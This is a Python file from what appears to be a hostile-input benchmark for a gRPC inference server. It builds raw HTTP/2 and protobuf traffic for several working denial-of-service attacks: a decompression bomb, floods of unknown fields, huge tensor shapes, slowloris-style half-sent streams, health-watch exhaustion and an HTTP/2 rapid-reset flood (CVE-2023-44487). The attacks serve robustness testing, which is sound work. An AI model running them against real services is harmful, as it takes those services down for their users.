"""HTTP/2 and protobuf as an attacker writes them: item 12 of benchmarks/hostile. An attack is a function (target, outcome)."""

import socket
import struct
import threading
import time
import zlib

from wire import Answer

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SERVICE = "/inference.GRPCInferenceService/"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS = 1, 4
LARGEST_DATA = 1 << 14


def varint(number):
    out = b""
    while number >= 128:
        out, number = out + bytes([number & 127 | 128]), number >> 7
    return out + bytes([number])


def field(number, value):
    """A field of a protobuf message: a number, or bytes."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(value)) + value


def framed(message, compressed=False):
    return struct.pack(">BI", compressed, len(message)) + message


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(text):
    text = text.encode()
    length = bytes([len(text)]) if len(text) < 127 else b"\x7f" + varint(len(text) - 127)
    return length + text


class Http2:
    """A connection that heeds what it is told of windows, so that an attack is what it means to be."""

    def __init__(self, address, source=None, seconds=30):
        self.socket = socket.create_connection(address, timeout=seconds, source_address=(source, 0) if source else None)
        windows = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 30)) + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30))
        self.socket.sendall(PREFACE + windows)
        self.bytes, self.stream, self.window, self.first, self.windows = b"", -1, 65535, 65535, {}

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def open(self, method, *more):
        """Begins a call; its stream's number."""
        self.stream += 2
        head = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "phasor"),
            ("content-type", "application/grpc"), ("te", "trailers"), *more]
        block = b"".join(b"\0" + literal(name) + literal(value) for name, value in head)
        self.socket.sendall(frame(HEADERS, END_HEADERS, self.stream, block))
        return self.stream

    def read(self):
        """The next frame as kind, flags, stream and payload; None where the connection has ended."""
        while len(self.bytes) < 9 or len(self.bytes) < 9 + int.from_bytes(self.bytes[:3], "big"):
            try:
                more = self.socket.recv(1 << 16)
            except TimeoutError:
                raise
            except OSError:
                return None
            if not more:
                return None
            self.bytes += more
        size = int.from_bytes(self.bytes[:3], "big")
        kind, flags, stream = self.bytes[3], self.bytes[4], int.from_bytes(self.bytes[5:9], "big") & 0x7FFFFFFF
        payload, self.bytes = self.bytes[9 : 9 + size], self.bytes[9 + size :]
        if kind == SETTINGS and not flags & 1:
            self.socket.sendall(frame(SETTINGS, 1, 0))
            for at in range(0, size, 6):
                name, value = struct.unpack(">HI", payload[at : at + 6])
                self.first = value if name == 4 else self.first
        elif kind == WINDOW and stream == 0:
            self.window += int.from_bytes(payload, "big")
        elif kind == WINDOW:
            self.windows[stream] = self.windows.get(stream, 0) + int.from_bytes(payload, "big")
        elif kind == PING and not flags & 1:
            self.socket.sendall(frame(PING, 1, 0, payload))
        return kind, flags, stream, payload

    def send(self, stream, data):
        """Sends a message and its end; what ended it before, if something did."""
        sent = 0
        while sent < len(data):
            count = min(self.window, self.first + self.windows.get(stream, 0), LARGEST_DATA, len(data) - sent)
            if count <= 0:
                got = self.read()
                if got is None or got[0] == GOAWAY or got[2] == stream and got[0] in (RESET, HEADERS):
                    return got
                continue
            self.socket.sendall(frame(DATA, END_STREAM if sent + count == len(data) else 0, stream, data[sent : sent + count]))
            sent, self.window = sent + count, self.window - count
            self.windows[stream] = self.windows.get(stream, 0) - count
        return None

    def call(self, method, data, *more):
        """How a call ends: an Answer of status 200 for OK and of 400 for any other status or end."""
        began = time.monotonic()
        try:
            stream = self.open(method, *more)
            got = self.send(stream, data)
            while got is None or not (got[0] in (RESET, GOAWAY) or got[0] == HEADERS and got[1] & END_STREAM and got[2] == stream):
                got = self.read()
                if got is None:
                    break
        except OSError as e:
            return Answer(error=type(e).__name__, seconds=time.monotonic() - began)
        fine = got is not None and got[0] == HEADERS and b"grpc-status\x010" in got[3]
        return Answer(200 if fine else 400, seconds=time.monotonic() - began)


def at_once(count, work):
    threads = [threading.Thread(target=work, args=(i,)) for i in range(count)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


def crowd(target, outcome, name, count, method, message, *more, compressed=False, most=20):
    """Sends one message by many connections at once; each has to end, in time."""
    data = framed(message, compressed)

    def one(number):
        with Http2(target.grpc, source=f"127.0.0.{2 + number % 4}") as connection:
            answer = connection.call(method, data, *more)
        late = answer.seconds > most or answer.error == "TimeoutError"
        outcome.add(name, len(data), answer, f"ended after {answer.seconds:.0f} s, {answer}" if late else "")

    at_once(count, one)


def bombs(target, outcome):
    """A message inflates to what it may have and no more, whichever method it is for."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = packer.compress(varint(15 << 3 | 2) + varint(256 << 20))
    for _ in range(256):
        packed += packer.compress(bytes(1 << 20))
    packed += packer.flush()
    for method in (SERVICE + "ServerLive", SERVICE + "ModelInfer", SERVICE + "ModelStreamInfer", "/grpc.health.v1.Health/Check",
            "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"):
        crowd(target, outcome, method, 8, method, packed, ("grpc-encoding", "gzip"), compressed=True)


def unknown_fields(target, outcome):
    """Fields that nobody knows are counted."""
    message = b"".join(varint(number << 3) + b"\0" for number in range(16, 300_000))
    for method in (SERVICE + "ServerLive", SERVICE + "ModelReady", SERVICE + "ModelInfer", "/grpc.health.v1.Health/Check"):
        crowd(target, outcome, method, 8, method, message)


def axes(target, outcome):
    """A shape has few axes, however they are packed."""
    for size in (1 << 20, 16 << 20):
        tensor = field(1, "audio") + field(2, "FP32") + field(3, b"\1" * size)
        crowd(target, outcome, f"{size} axes", 4, SERVICE + "ModelInfer", field(1, "stft") + field(5, tensor) + field(7, b"1234"))


def half_sent(target, outcome):
    """Calls that say nothing more hold nobody up: others are answered meanwhile."""
    live = framed(b"")
    with Http2(target.grpc, source="127.0.0.2") as silent:
        for _ in range(100):
            stream = silent.open(SERVICE + "ModelInfer")
            silent.socket.sendall(frame(DATA, 0, stream, struct.pack(">BI", 0, 1 << 20) + bytes(100)))
        with Http2(target.grpc, source="127.0.0.3") as other:
            answer = other.call(SERVICE + "ServerLive", live)
        outcome.add("another's ServerLive", len(live), answer, "" if answer.status == 200 and answer.seconds < 2 else f"{answer}")


def watchers_of_health(target, outcome):
    """Watchers of health have places of their own, and may lose their connection."""
    for number in range(8):
        with Http2(target.grpc, source=f"127.0.0.{2 + number}") as many:
            try:
                for _ in range(200):
                    stream = many.open("/grpc.health.v1.Health/Watch")
                    many.socket.sendall(frame(DATA, END_STREAM, stream, framed(b"")))
            except OSError:
                pass  # a connection whose calls are refused again and again may be closed
    with Http2(target.grpc, source="127.0.0.99") as other:
        answer = other.call("/grpc.health.v1.Health/Check", framed(b""))
    outcome.add("another's Check", 5, answer, "" if answer.status == 200 and answer.seconds < 2 else f"{answer}")


def resets(target, outcome):
    """Who begins calls and resets them, again and again, loses the connection (CVE-2023-44487)."""
    began, sent = time.monotonic(), 0
    with Http2(target.grpc, source="127.0.0.2", seconds=10) as flood:
        try:
            while sent < 20_000:
                stream = flood.open(SERVICE + "ServerLive")
                flood.socket.sendall(frame(RESET, 0, stream, struct.pack(">I", 8)))
                sent += 1
        except OSError:
            pass
    outcome.add("resets", 60 * sent, None, "" if sent < 20_000 else "20,000 were taken")
    outcome.seconds = time.monotonic() - began


CALLS = (bombs, unknown_fields, axes, half_sent, watchers_of_health, resets)
